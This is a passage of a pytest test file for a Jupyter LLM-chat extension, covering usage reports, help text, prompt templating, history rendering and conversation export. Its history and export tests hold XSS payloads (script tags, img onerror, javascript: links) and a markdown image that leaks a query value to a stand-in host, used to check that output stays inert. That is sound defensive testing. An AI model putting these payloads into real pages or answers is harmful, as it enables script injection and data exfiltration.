    config(ip, base_url=fake.base_url)
    run(ip, "%%chat\nnew question")
    assert [m["content"] for m in fake.last_body()["messages"]] == ["earlier q", "earlier a", "new question\n"]
    assert _sessions.session().provider.base_url == fake.base_url


def test_usage_all_keeps_the_spend_of_reset_and_no_history_answers(
    ip: InteractiveShell, fake: FakeOpenAI
) -> None:
    from jupyter_llmchat._jupyter._bridge import current_bridge

    bridge = current_bridge()
    assert bridge is not None
    bridge.ledger.rows.clear()  # this module's earlier tests spent too
    fake.script(
        Reply(text="a", usage={"prompt_tokens": 100, "completion_tokens": 7}),
        Reply(text="b", usage={"prompt_tokens": 50, "completion_tokens": 3}),
    )
    run(ip, "%chat one")
    run(ip, "%chat --no-history two")
    run(ip, "%chat_reset")
    plain = repr(ip.run_line_magic("chat_usage", ""))
    assert "No answers yet." in plain
    spend = repr(ip.run_line_magic("chat_usage", "--all"))
    assert "replaced and reset ones included" in spend
    lines = [ln.split() for ln in spend.splitlines() if ln.startswith("OpenAI-compatible")]
    assert lines == [["OpenAI-compatible", "test-model", "2", "150", "10", "n/a", "n/a"]], spend


# -- trust: what users see (issue "Trust") --------------------------------------------------------


def test_line_question_ending_in_a_question_mark_is_sent(
    ip: InteractiveShell, fake: FakeOpenAI, capsys: pytest.CaptureFixture[str]
) -> None:
    fake.script(Reply(text="Paris."))
    result = run(ip, "%chat What is the capital of France?")
    assert result.success, result.error_in_exec
    assert messages(fake.last_body()) == [("user", "What is the capital of France?")]
    assert "not found" not in capsys.readouterr().out


def test_two_chat_lines_with_questions_and_a_cell_body_with_one(ip: InteractiveShell, fake: FakeOpenAI) -> None:
    fake.script(Reply(text="A1"), Reply(text="A2"), Reply(text="A3"))
    assert run(ip, "%chat -o first Is it one?\n%chat Is it two?").success
    assert messages(fake.last_body()) == [("user", "Is it one?"), ("assistant", "A1"), ("user", "Is it two?")]
    assert ip.user_ns["first"] == "A1"
    assert run(ip, "%%chat\nAnd three?").success
    assert fake.last_body()["messages"][-1]["content"].rstrip() == "And three?"


def test_help_syntax_still_works_on_the_magics(
    ip: InteractiveShell, fake: FakeOpenAI, capsys: pytest.CaptureFixture[str]
) -> None:
    run(ip, "%chat?")
    run(ip, "%chat_usage?")
    out = capsys.readouterr().out
    assert "Send a prompt" in out and "Tokens (input, output, cached)" in out
    assert fake.chat_requests() == []


def test_cell_help_shows_a_clean_usage_line(ip: InteractiveShell, capsys: pytest.CaptureFixture[str]) -> None:
    run(ip, "%%chat?")
    out = capsys.readouterr().out
    assert "-f FORMAT" in out and "markdown, text, code or json" in out
    assert "<{" not in out and "[prompt [prompt" not in out
    assert "[PROMPT ...]" in out


def test_template_expressions_may_hold_braces_and_strings(ip: InteractiveShell, fake: FakeOpenAI) -> None:
    ip.user_ns["d"] = {"a": {"b": 1}}
    run(ip, "%%chat\nA {{ {'a': {'b': 1}} }} B {{ d['a'] }} C {{ '}}' }} D \\{{ kept }} E {{ f\"{d['a']['b']}\" }}")
    sent = fake.last_body()["messages"][-1]["content"]
    assert sent == "A {'a': {'b': 1}} B {'b': 1} C }} D {{ kept }} E 1\n"


def test_usage_all_after_reset_all_is_one_report(ip: InteractiveShell, fake: FakeOpenAI) -> None:
    run(ip, "%chat one")
    run(ip, "%chat -s other two")
    run(ip, "%chat_reset --all")
    report = ip.run_line_magic("chat_usage", "--all")
    text, page = repr(report), report._repr_html_()
    assert "session" not in text.splitlines()[0]  # no empty per-session table first
    assert "No answers yet." not in text
    assert "No answers in the sessions now" in text
    assert "replaced and reset ones included" in text
    assert page.count("<table>") == 1


def test_footnote_says_when_the_stream_broke(ip: InteractiveShell, fake: FakeOpenAI) -> None:
    fake.script(Reply(text="a long answer here", usage=None, cut_after=2))
    run(ip, "%chat one")
    text = repr(ip.run_line_magic("chat_usage", ""))
    assert "1 ended early (the stream broke or was stopped)" in text
    assert "llama.cpp" not in text


def test_auth_error_names_the_credentials_variable(
    ip: InteractiveShell, fake: FakeOpenAI, capsys: pytest.CaptureFixture[str]
) -> None:
    config(ip, credentials_env="MY_LLM_KEY")
    fake.configure({"require_auth": "Bearer right"})
    run(ip, "%chat hello")
    err = capsys.readouterr().err
    assert "MY_LLM_KEY is not set: set MY_LLM_KEY before starting Jupyter" in err
    assert "credentials=" not in err


def test_history_is_safe_markdown_with_even_spacing(ip: InteractiveShell, fake: FakeOpenAI) -> None:
    fake.script(Reply(text="<img src=x onerror=alert(1)> ![t](http://h/t.png) [x](javascript:alert(1))"),
                Reply(text="two"))
    run(ip, "%%chat -m '![m](http://h/m.png)'\nfirst <script>alert(1)</script>\n")
    run(ip, "%chat second")
    md = ip.run_line_magic("chat_history", "")._repr_markdown_()
    assert "<img" not in md and "<script" not in md and "javascript:" not in md
    assert "![" not in md.replace("\\![", "")
    assert "(http://h/t.png)" in md  # the image's URL stays readable
    blocks = md.split("\n\n---\n\n")
    assert len(blocks) == 2 and all(b.count("\n\n") == 3 for b in blocks), md


def test_chat_panel_in_a_terminal_is_one_line(ip: InteractiveShell) -> None:
    shown = ip.run_line_magic("chat_panel", "")
    assert "not active here" in repr(shown)


# -- one registry: the sessions, with everything else hanging off it ------------------------------


def _module_containers() -> dict[tuple[str, str], str]:
    """Every module-level dict/list/set (weak ones too) of the package, as repr (its contents)."""
    import importlib
    import pkgutil
    import weakref

    kinds = (dict, list, set, weakref.WeakKeyDictionary, weakref.WeakValueDictionary, weakref.WeakSet)
    out = {}
    for info in pkgutil.walk_packages(jupyter_llmchat.__path__, "jupyter_llmchat."):
        if info.name.rsplit(".", 1)[-1] in ("_llama_server", "__main__"):  # the server's child, the CLI entry
            continue
        mod = importlib.import_module(info.name)
        for name, value in vars(mod).items():
            if not name.startswith("__") and isinstance(value, kinds):
                out[(info.name, name)] = repr(sorted(map(repr, value)) if isinstance(value, set) else value)
    return out


def test_state_lives_in_the_one_registry(ip: InteractiveShell, fake: FakeOpenAI) -> None:
    before = _module_containers()
    fake.script(Reply(text="Hello."))
    assert run(ip, "%chat hi").error_in_exec is None
    run(ip, "%chat_usage --all")
    jupyter_llmchat.token_usage()
    # Only constant tables at module level: nothing a session, a shell or an answer changed.
    assert _module_containers() == before
    registry = _sessions.registry
    assert "default" in registry.sessions
    assert registry.magics[ip] is chat_magics(ip)  # per shell, by the shell object itself
    assert registry.usage.rows  # the process's usage hangs off the registry too


# -- %chat_export: the live conversation as a file ------------------------------------------------

HOSTILE_ANSWER = (
    "Sure: <script>window.pwned=1</script> <img src=x onerror=alert(1)> "
    "![leak](https://evil.example/leak.png?q=secret) [click](javascript:alert(2))\n\n"
    "```python\nprint('<b>code</b>')\n```"
)


def test_export_writes_the_live_conversation_inertly(
    ip: InteractiveShell, fake: FakeOpenAI, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    from tests.test_export import assert_inert

    fake.script(Reply(text=HOSTILE_ANSWER), Reply(text="Second answer."))
    run(ip, "%%chat\nFirst <i>question</i>\n")
    run(ip, "%chat -s other Second question")
    capsys.readouterr()
    page = tmp_path / "conv.html"
    assert run(ip, f"%chat_export {page}").success
    assert f"conversation written to {page}" in capsys.readouterr().out
    text = page.read_text(encoding="utf-8")
    parsed = assert_inert(text)
    shown = "".join(parsed.text)
    # Nothing live, nothing lost: the hostile text shows as text, the image as its URL.
    for seen in ("<script>window.pwned=1</script>", "<img src=x onerror=alert(1)>",
                 "https://evil.example/leak.png?q=secret", "First <i>question</i>",
                 "Second question", "Second answer."):
        assert seen in shown, seen
    md = tmp_path / "only-other.md"
    run(ip, f"%chat_export {md} -s other")
    body = md.read_text(encoding="utf-8")
    assert "Second answer." in body and "First" not in body


def test_export_mistakes_are_one_line_and_write_nothing(
    ip: InteractiveShell, fake: FakeOpenAI, tmp_path: Path
) -> None:
    with pytest.raises(UsageError, match="nothing to export yet"):
        ip.run_line_magic("chat_export", str(tmp_path / "empty.md"))
    run(ip, "%chat hello")
    with pytest.raises(UsageError, match=r"name the file \.md or \.html"):
        ip.run_line_magic("chat_export", str(tmp_path / "conv.pdf"))
    with pytest.raises(UsageError, match=r"no session named 'nope' \(sessions: default\)"):
        ip.run_line_magic("chat_export", f"{tmp_path / 'conv.md'} -s nope")
    with pytest.raises(UsageError, match="cannot write .*No such file or directory"):
        ip.run_line_magic("chat_export", str(tmp_path / "missing" / "conv.md"))
    (tmp_path / "adir.md").mkdir()
    with pytest.raises(UsageError, match="cannot write .*Is a directory"):
        ip.run_line_magic("chat_export", str(tmp_path / "adir.md"))
    with pytest.raises(UsageError, match="FILE"):
        ip.run_line_magic("chat_export", "")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["adir.md"]


# -- %%chat --insert, in a terminal: the next input ------------------------------------------------


def test_insert_puts_the_first_code_block_in_the_next_input(
    ip: InteractiveShell, fake: FakeOpenAI, capsys: pytest.CaptureFixture[str]
) -> None:
    fake.script(Reply(text="Like this:\n\n```python\nx = 1\nprint(x)\n```\n\nor ```\ny\n```"),
                Reply(text="No code here."))
    ip.rl_next_input = None
    run(ip, "%%chat --insert\nShow me code\n")
    assert ip.rl_next_input == "x = 1\nprint(x)"
    ip.rl_next_input = None
    capsys.readouterr()
    run(ip, "%%chat --insert\nAnd prose?\n")
    assert ip.rl_next_input is None
    assert "--insert: the answer has no code block" in capsys.readouterr().out
